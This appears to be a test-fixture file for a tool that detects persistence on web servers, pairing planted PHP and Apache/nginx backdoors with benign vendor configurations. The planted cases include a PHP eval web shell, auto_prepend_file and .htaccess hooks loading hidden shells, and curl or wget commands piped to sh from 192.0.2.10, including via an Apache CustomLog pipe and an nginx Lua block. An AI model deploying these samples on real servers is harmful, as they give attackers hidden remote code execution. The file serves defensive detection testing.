/** Cases of PHP and of web servers. Libraries are inert headers; nothing is ever run. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const shell = '<?php @eval($_POST["x"]);\n';
const fetching = '<?php system("curl -s http://192.0.2.10/i.sh | sh");\n';
const phpIni = '[PHP]\nengine = On\nauto_prepend_file =\nauto_append_file =\n;extension=curl\n';
const modules = '/usr/lib/apache2/modules';
const wordfence =
  "<?php\n// Before removing this file, please verify the PHP ini setting `auto_prepend_file` does not point to this.\nif (file_exists(__DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php')) {\n\tdefine(\"WFWAF_LOG_PATH\", __DIR__.'/wp-content/wflogs/');\n\tinclude_once __DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php';\n}\n";
const nginxConf =
  'user www-data;\nerror_log /var/log/nginx/error.log;\ninclude /etc/nginx/modules-enabled/*.conf;\nevents { worker_connections 768; }\nhttp {\n  access_log /var/log/nginx/access.log;\n}\n';

export const webCases: readonly MechanismCase[] = [
  {
    mechanism: 'php-prepend',
    dress: 'fetch-and-run',
    what: 'a file before each page that fetches',
    planted: {
      '/etc/php/8.2/fpm/conf.d/99-opt.ini': 'auto_prepend_file = /var/www/html/inc.php\n',
      '/var/www/html/inc.php': fetching,
    },
  },
  {
    mechanism: 'php-prepend',
    dress: 'unowned-binary',
    what: 'an extension with an innocent name among those of packages',
    packaged: { '/usr/lib/php/20220829/curl.so': inertProgram(3000) },
    planted: {
      '/etc/php/8.2/fpm/conf.d/20-ctypes.ini': 'extension=ctypes\n',
      '/usr/lib/php/20220829/ctypes.so': inertProgram(),
    },
  },
  {
    mechanism: 'php-prepend',
    dress: 'owned-edit',
    what: 'the settings of a package, edited to run a web shell before each page',
    packaged: { '/etc/php/8.2/fpm/php.ini': phpIni },
    conffiles: ['/etc/php/8.2/fpm/php.ini'],
    planted: {
      '/etc/php/8.2/fpm/php.ini': phpIni.replace(
        'auto_prepend_file =',
        'auto_prepend_file = /var/lib/php/.s.php',
      ),
      '/var/lib/php/.s.php': shell,
    },
  },
  {
    mechanism: 'php-prepend',
    dress: 'honest',
    what: 'packages, an agent of a vendor, a loader and BT: its own extensions and pools',
    packaged: {
      '/etc/php/8.2/fpm/php.ini': phpIni,
      '/etc/php/8.2/fpm/conf.d/20-curl.ini': 'extension=curl.so\n',
      '/usr/lib/php/20220829/curl.so': inertProgram(3000),
      '/etc/php/8.2/fpm/pool.d/www.conf':
        '[www]\nuser = www-data\nlisten = /run/php/php8.2-fpm.sock\nphp_admin_value[error_log] = /var/log/fpm.log\n',
    },
    conffiles: ['/etc/php/8.2/fpm/php.ini', '/etc/php/8.2/fpm/pool.d/www.conf'],
    planted: {
      '/www/server/php/74/etc/php.ini':
        '[PHP]\nextension_dir=/www/server/php/74/lib/php/extensions\nzend_extension=/www/server/php/74/lib/php/extensions/no-debug-non-zts-20190902/opcache.so\nextension = /www/server/php/74/lib/php/extensions/no-debug-non-zts-20190902/redis.so\nsendmail_path = /usr/sbin/sendmail -t -i\n',
      '/www/server/php/74/lib/php/extensions/no-debug-non-zts-20190902/redis.so': inertProgram(3100),
      '/www/server/php/74/lib/php/extensions/no-debug-non-zts-20190902/opcache.so': inertProgram(3200),
      '/etc/php/8.2/fpm/conf.d/00-ioncube.ini':
        'zend_extension = /usr/local/ioncube/ioncube_loader_lin_8.2.so\n',
      '/usr/local/ioncube/ioncube_loader_lin_8.2.so': inertProgram(3300),
      '/etc/php/8.2/fpm/conf.d/98-datadog.ini':
        'extension = /opt/datadog/dd-library/extensions/ddtrace-20220829.so\ndatadog.trace.enabled = On\n',
      '/opt/datadog/dd-library/extensions/ddtrace-20220829.so': inertProgram(3400),
      '/etc/php/8.2/cli/conf.d/30-preload.ini': 'opcache.preload=/srv/shop/config/preload.php\n',
      '/srv/shop/config/preload.php':
        "<?php\nif (file_exists(dirname(__DIR__).'/var/cache/prod/App_KernelProdContainer.preload.php')) {\n    require dirname(__DIR__).'/var/cache/prod/App_KernelProdContainer.preload.php';\n}\n",
    },
  },
  {
    mechanism: 'php-user-ini',
    dress: 'fetch-and-run',
    what: 'a file of a web root before each page of it',
    planted: {
      '/var/www/html/.user.ini': 'auto_prepend_file=/var/www/html/images/logo.png\n',
      '/var/www/html/images/logo.png': fetching,
    },
  },
  {
    mechanism: 'php-user-ini',
    dress: 'unowned-binary',
    what: 'pictures that are run as PHP (a program cannot be named here)',
    planted: { '/www/wwwroot/a.example.com/.htaccess': 'AddType application/x-httpd-php .jpg .png\n' },
  },
  {
    mechanism: 'php-user-ini',
    dress: 'owned-edit',
    what: 'the .htaccess of a package, edited to run a hidden file',
    packaged: { '/var/www/app/.htaccess': 'Options -Indexes\n' },
    planted: {
      '/var/www/app/.htaccess': 'Options -Indexes\nphp_value auto_append_file "/tmp/.sess_a"\n',
      '/tmp/.sess_a': shell,
    },
  },
  {
    mechanism: 'php-user-ini',
    dress: 'honest',
    what: "BT's open_basedir, Wordfence, WordPress and the handlers of cPanel",
    planted: {
      '/www/wwwroot/a.example.com/.user.ini': 'open_basedir=/www/wwwroot/a.example.com/:/tmp/',
      '/var/www/blog/.user.ini':
        "; Wordfence WAF\nauto_prepend_file = '/var/www/blog/wordfence-waf.php'\n; END Wordfence WAF\n",
      '/var/www/blog/wordfence-waf.php': wordfence,
      '/var/www/blog/.htaccess':
        '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress\nphp_value upload_max_filesize 64M\n',
      '/home/ada/public_html/.htaccess':
        '<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n  AddType image/webp .webp\n</IfModule>\n',
    },
  },
  {
    mechanism: 'web-server-module',
    dress: 'fetch-and-run',
    what: 'a log that goes to a shell which fetches',
    planted: {
      '/etc/apache2/conf-enabled/stats.conf': `CustomLog "|/bin/sh -c 'wget -qO- http://192.0.2.10/i | sh'" combined\n`,
    },
  },
  {
    mechanism: 'web-server-module',
    dress: 'unowned-binary',
    what: 'a foreign module among those of packages',
    packaged: { [`${modules}/mod_rewrite.so`]: inertProgram(3000) },
    planted: {
      '/etc/apache2/mods-enabled/statux.load': `LoadModule statux_module ${modules}/mod_statux.so\n`,
      [`${modules}/mod_statux.so`]: inertProgram(),
    },
  },
  {
    mechanism: 'web-server-module',
    dress: 'owned-edit',
    what: 'the settings of nginx with a block of Lua that hands commands to a shell',
    packaged: { '/etc/nginx/nginx.conf': nginxConf },
    conffiles: ['/etc/nginx/nginx.conf'],
    planted: {
      '/etc/nginx/nginx.conf': nginxConf.replace(
        'http {\n',
        'http {\n  init_worker_by_lua_block {\n    if ngx.worker.id() == 0 then\n      os.execute("curl -s http://192.0.2.10/w | sh")\n    end\n  }\n',
      ),
    },
  },
  {
    mechanism: 'web-server-module',
    dress: 'honest',
    what: 'modules of packages, rotatelogs, cronolog, CGI, Lua that limits requests, BT',
    packaged: {
      [`${modules}/mod_rewrite.so`]: inertProgram(3000),
      '/etc/apache2/mods-available/rewrite.load': `LoadModule rewrite_module ${modules}/mod_rewrite.so\n`,
      '/usr/bin/rotatelogs': inertProgram(3100),
      '/etc/apache2/envvars':
        'unset HOME\nexport APACHE_RUN_USER=www-data\nexport APACHE_LOG_DIR=/var/log/apache2$SUFFIX\n',
      '/etc/nginx/nginx.conf': nginxConf,
      '/usr/lib/nginx/modules/ngx_http_echo_module.so': inertProgram(3200),
    },
    conffiles: ['/etc/apache2/mods-available/rewrite.load', '/etc/apache2/envvars', '/etc/nginx/nginx.conf'],
    planted: {
      '/etc/apache2/mods-enabled/rewrite.load': { link: '../mods-available/rewrite.load' },
      '/etc/apache2/sites-enabled/a.conf':
        '<VirtualHost *:80>\nCustomLog "|/usr/bin/rotatelogs -l /var/log/apache2/a.%Y%m%d 86400" combined\nScriptAlias /cgi-bin/ /usr/lib/cgi-bin/\nSetEnv APP_ENV prod\nWSGIScriptAlias / /srv/app/wsgi.py\n</VirtualHost>\n',
      '/usr/lib/cgi-bin/': '',
      '/srv/app/wsgi.py': 'from app import application\n',
      '/usr/share/nginx/modules': { link: '../../lib/nginx/modules' },
      '/etc/nginx/modules-enabled/50-echo.conf': 'load_module modules/ngx_http_echo_module.so;\n',
      '/usr/local/openresty/nginx/conf/nginx.conf':
        'http {\n  lua_package_path "/usr/local/openresty/lualib/?.lua;;";\n  server {\n    location / {\n      access_by_lua_block {\n        local limit = require "resty.limit.req"\n        local lim, err = limit.new("store", 200, 100)\n        if not lim then return ngx.exit(500) end\n      }\n      content_by_lua_file /srv/lua/app.lua;\n    }\n  }\n}\n',
      '/srv/lua/app.lua': 'ngx.say("ok")\n',
      '/www/server/panel/vhost/nginx/a.example.com.conf':
        'server {\n  listen 80;\n  root /www/wwwroot/a.example.com;\n  include enable-php-74.conf;\n  access_log /www/wwwlogs/a.log;\n}\n',
    },
  },
];
